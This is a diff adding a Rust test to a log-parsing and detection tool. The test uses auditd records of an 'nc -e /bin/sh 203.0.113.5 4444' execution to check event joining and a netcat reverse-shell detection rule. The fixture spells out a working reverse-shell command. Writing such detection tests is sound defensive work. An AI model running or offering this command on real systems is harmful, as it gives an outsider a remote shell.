@@ -170,3 +170,50 @@ fn rules_test_reads_zeek_tsv_and_json_files_and_the_zeek_pack_fires() {
     let webdav = &v["matches"][3];
     assert!(webdav["original"].as_str().unwrap().starts_with("1588206925.615397\tCz1\t"), "{v}");
 }
+
+/// The records of one `nc -e /bin/sh` execution, as auditd writes them.
+const NETCAT: &str = "type=SYSCALL msg=audit(1764129609.100:5014): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=2 ppid=4500 pid=4501 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)
+type=EXECVE msg=audit(1764129609.100:5014): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"203.0.113.5\" a4=\"4444\"
+type=CWD msg=audit(1764129609.100:5014): cwd=\"/tmp\"
+type=PATH msg=audit(1764129609.100:5014): item=0 name=\"/usr/bin/nc\" inode=4711 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
+type=PROCTITLE msg=audit(1764129609.100:5014): proctitle=6E63002D65
+type=EOE msg=audit(1764129609.100:5014): 
+Nov 26 10:00:00 web01 sshd[1]: Failed password for root from 203.0.113.5 port 22 ssh2
+";
+
+#[test]
+fn parse_and_rules_test_join_audit_records() {
+    // `sen parse`: the records, the joined event right after the PROCTITLE (the kernel's last
+    // record of the event before EOE), the EOE, the next line.
+    let (code, out, err) = sen(&["parse"], NETCAT);
+    assert_eq!(code, 0, "{err}");
+    let events: Vec<serde_json::Value> =
+        out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(events.len(), 8);
+    let joined = &events[5];
+    assert_eq!(events[6]["auditd.message_type"], "eoe");
+    assert_eq!(joined["event.dataset"], "auditd.event", "{joined}");
+    assert_eq!(joined["process.executable"], "/usr/bin/nc");
+    assert_eq!(joined["process.command_line"], "nc -e /bin/sh 203.0.113.5 4444");
+    assert_eq!(joined["process.working_directory"], "/tmp");
+    assert_eq!(joined["event.type"], serde_json::json!(["start"]));
+    assert_eq!(events[7]["process.name"], "sshd");
+    // `sen rules test` over the file: the built-in netcat rule needs `Image` and `CommandLine`,
+    // which only the joined event holds.
+    let dir = tempfile::tempdir().unwrap();
+    let log = dir.path().join("audit.log");
+    std::fs::write(&log, NETCAT).unwrap();
+    let (code, out, err) = sen(&["rules", "test", "--json", "--events", log.to_str().unwrap()], "");
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    assert_eq!(v["events"], 8, "{v}");
+    let netcat: Vec<&serde_json::Value> = v["matches"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["title"] == "Potential Netcat Reverse Shell Execution")
+        .collect();
+    assert_eq!(netcat.len(), 1, "{v}");
+    assert!(netcat[0]["original"].as_str().unwrap().starts_with("type=SYSCALL"), "{v}");
+    assert!(netcat[0]["original"].as_str().unwrap().contains("\ntype=EXECVE"), "{v}");
+}
